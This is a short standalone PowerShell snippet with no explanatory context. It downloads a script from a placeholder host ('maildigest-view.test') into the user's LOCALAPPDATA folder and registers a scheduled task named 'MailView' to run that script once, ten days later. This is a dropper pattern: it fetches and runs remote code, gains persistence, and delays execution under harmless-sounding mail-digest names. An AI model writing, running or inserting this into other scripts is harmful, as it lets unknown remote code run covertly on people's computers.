$file = Join-Path $env:LOCALAPPDATA "digest\\view.ps1"
Start-BitsTransfer -Source "https://get.maildigest-view.test/v" -Destination $file
$step = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-File $file"
$when = New-ScheduledTaskTrigger -Once -At (Get-Date).AddDays(10)
Register-ScheduledTask -TaskName "MailView" -Action $step -Trigger $when
